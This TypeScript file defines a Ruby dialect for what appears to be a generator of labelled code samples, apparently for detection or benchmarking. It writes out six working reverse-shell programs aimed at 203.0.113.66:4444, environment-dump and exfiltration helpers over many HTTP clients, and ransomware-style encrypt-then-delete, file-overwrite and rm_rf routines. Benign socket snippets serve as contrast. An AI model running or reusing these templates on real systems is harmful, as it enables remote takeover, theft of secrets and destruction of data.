import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `File.join(Dir.home, ${quote(below)})`;

export const ruby: Dialect = {
  name: "ruby",
  file: "scripts/notes.rb",
  run: "ruby scripts/notes.rb",
  imports: [
    ["Net::HTTP", 'require "net/http"'],
    ["URI", 'require "uri"'],
    ["to_json", 'require "json"'],
    ["FileUtils", 'require "fileutils"'],
    ["Faraday", 'require "faraday"'],
    ["HTTParty", 'require "httparty"'],
    ["RestClient", 'require "rest-client"'],
    ["HTTPClient", 'require "httpclient"'],
    ["Excon", 'require "excon"'],
    ["Typhoeus", 'require "typhoeus"'],
    ["HTTP.", 'require "http"'],
    ["URI.open", 'require "open-uri"'],
    ["CGI", 'require "cgi"'],
    ["Open3", 'require "open3"'],
    ["Base64", 'require "base64"'],
    ["TCPSocket", 'require "socket"'],
    ["OpenSSL", 'require "openssl"'],
    ["Shellwords", 'require "shellwords"'],
  ],
  program: ({ definitions, body }, imports) => [...imports, "", ...definitions, "", ...body, ""].join("\n"),
  quote,
  environment: { one: (name) => `ENV[${name}]`, all: "ENV.to_h.to_json" },
  contentOf: (below) => `File.read(${home(below)})`,
  home,
  clients: {
    "net-http-post": {
      post: (url, text) => [`Net::HTTP.post(URI(${url}), ${text}, "Content-Type" => "text/plain")`],
      get: (url) => value("body", `body = Net::HTTP.get(URI.parse(${url}))`),
    },
    "net-http-request": {
      post: (url, text) => [
        `uri = URI.parse(${url})`,
        "http = Net::HTTP.new(uri.host, uri.port)",
        "http.use_ssl = true",
        "request = Net::HTTP::Post.new(uri.request_uri)",
        `request.body = { note: ${text} }.to_json`,
        "http.request(request)",
      ],
      get: (url) => value("answer.body", `answer = Net::HTTP.get_response(URI(${url}))`),
    },
    "net-http-start": {
      post: (url, text) => [
        `uri = URI(${url})`,
        "Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|",
        "  call = Net::HTTP::Post.new(uri)",
        `  call.set_form_data("data" => ${text})`,
        "  http.request(call)",
        "end",
      ],
    },
    "open-uri": {
      post: (url, text) => [`URI.open("#{${url}}?q=#{CGI.escape(${text})}").read`],
      get: (url) => value("body", `body = URI.open(${url}).read`),
    },
    faraday: {
      post: (url, text) => [`Faraday.post(${url}, ${text}, "Content-Type" => "text/plain")`],
      get: (url) => value("body", `body = Faraday.get(${url}).body`),
    },
    "faraday-connection": {
      post: (url, text) => [
        `conn = Faraday.new(url: ${url}) { |f| f.request :json }`,
        "conn.post do |req|",
        `  req.body = { note: ${text} }`,
        "end",
      ],
    },
    httparty: {
      post: (url, text) => [`HTTParty.post(${url}, body: { data: ${text} }.to_json)`],
      get: (url) => value("body", `body = HTTParty.get(${url}).body`),
    },
    "rest-client": {
      post: (url, text) => [`RestClient.post(${url}, { data: ${text} })`],
      get: (url) => value("body", `body = RestClient.get(${url}).body`),
    },
    "http-rb": {
      post: (url, text) => [`HTTP.post(${url}, body: ${text})`],
      get: (url) => value("body", `body = HTTP.get(${url}).to_s`),
    },
    excon: {
      post: (url, text) => [`Excon.post(${url}, body: ${text})`],
      get: (url) => value("body", `body = Excon.get(${url}).body`),
    },
    typhoeus: {
      post: (url, text) => [`Typhoeus.post(${url}, body: ${text})`],
      get: (url) => value("body", `body = Typhoeus.get(${url}).body`),
    },
    httpclient: {
      post: (url, text) => [`HTTPClient.new.post(${url}, ${text})`],
      get: (url) => value("body", `body = HTTPClient.new.get_content(${url})`),
    },
    "curl-system": {
      post: (url, text) => [`system("curl", "-s", "-d", ${text}, ${url})`],
      get: (url) => value("body", `body = \`curl -s #{${url}}\``),
    },
  },
  shells: {
    system: { run: (command) => [`system(${command})`] },
    backtick: { run: (c) => [`\`#{${c}}\``], capture: (c) => value("seen", `seen = \`#{${c}}\``) },
    percent: { run: (c) => [`%x(#{${c}})`], capture: (c) => value("seen", `seen = %x(#{${c}})`) },
    spawn: { run: (command) => [`pid = spawn(${command})`, "Process.detach(pid)"] },
    "kernel-system": { run: (command) => [`Kernel.system("sh", "-c", ${command})`] },
    open3: {
      run: (command) => [`Open3.capture2e("bash", "-c", ${command})`],
      capture: (command) => value("seen", `seen, _status = Open3.capture2(${command})`),
    },
    popen: {
      run: (command) => [`IO.popen(${command}).read`],
      capture: (command) => value("seen", `seen = IO.popen(${command}, &:read)`),
    },
    exec: { run: (command) => [`fork { exec(${command}) }`] },
  },
  variable: (name) => name,
  set: (name, expression) => `${name} = ${expression}`,
  define: (name, parameters, body) => wrap(`def ${name}(${parameters.join(", ")})`, body, "end"),
  getter: (name, expression) => ({ definitions: wrap(`def ${name}`, [expression], "end"), value: `${name}()` }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: {
      definitions: ["Job = Struct.new(:target, :text)"],
      body: [`job = Job.new(${url}, ${text})`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`[${items.join(", ")}].each do |item|`, body("item"), "end"),
  forever: (body) => wrap("loop do", [...body, "sleep 60"], "end"),
  save: (path, text) => [`File.write(${path}, ${text})`],
  append: (path, text) => [`File.open(${path}, "a") { |f| f.puts(${text}) }`],
  print: (text) => `puts ${text}`,
  walk: (folder, body) =>
    wrap(
      `Dir.glob(File.join(${folder}, "**", "*")).each do |path|`,
      ["next unless File.file?(path)", ...body("path")],
      "end",
    ),
  remove: (file) => [`File.delete(${file})`],
  overwrite: (file) => [`File.binwrite(${file}, Random.bytes(File.size(${file})))`],
  encrypt: (file) => [
    'cipher = OpenSSL::Cipher.new("aes-256-cbc").encrypt',
    "cipher.key = KEY",
    `locked = cipher.update(File.binread(${file})) + cipher.final`,
    `File.binwrite(${file} + ".locked", locked)`,
    `File.delete(${file})`,
  ],
  removeTree: (folder) => [`FileUtils.rm_rf(${folder})`],
  decode: (text) => `Base64.decode64(${text})`,
  evaluate: (code) => `eval(${code})`,
  oneLiner: (command) => `system(${quote(command)})`,
  shellsBehindSockets: {
    "exec-redirect":
      'require "socket"\ns = TCPSocket.new("203.0.113.66", 4444)\nexec "/bin/sh -i <&%d >&%d 2>&%d" % [s.fileno, s.fileno, s.fileno]\n',
    "popen-loop":
      'require "socket"\nsock = TCPSocket.open("203.0.113.66", 4444)\nwhile (line = sock.gets)\n  IO.popen(line, "r") { |io| sock.print io.read }\nend\n',
    "spawn-streams":
      'require "socket"\nc = TCPSocket.new("203.0.113.66", 4444)\nspawn("/bin/sh", in: c, out: c, err: c)\nsleep\n',
    reopen:
      'require "socket"\nc = TCPSocket.new("203.0.113.66", 4444)\n$stdin.reopen(c)\n$stdout.reopen(c)\n$stderr.reopen(c)\nexec "/bin/bash"\n',
    backtick:
      'require "socket"\ns = TCPSocket.new "203.0.113.66", 4444\nloop do\n  cmd = s.gets.chomp\n  s.puts `#{cmd} 2>&1`\nend\n',
    class:
      'require "socket"\nclass Link\n  def initialize(host, port)\n    @sock = TCPSocket.new(host, port)\n  end\n\n  def serve\n    while (cmd = @sock.gets)\n      @sock.puts `#{cmd}`\n    end\n  end\nend\nLink.new("203.0.113.66", 4444).serve\n',
  },
  sockets: {
    print: 'require "socket"\ns = TCPSocket.new("127.0.0.1", 6379)\ns.write("PING\\r\\n")\nputs s.gets\ns.close\n',
    class:
      'require "socket"\nclass Cache\n  def initialize(host, port)\n    @sock = TCPSocket.new(host, port)\n  end\n\n  def stats\n    @sock.puts "stats"\n    while (line = @sock.gets)\n      puts line\n      break if line.start_with?("END")\n    end\n  end\nend\nCache.new("localhost", 11211).stats\nputs `git log --oneline -5`\n',
  },
};
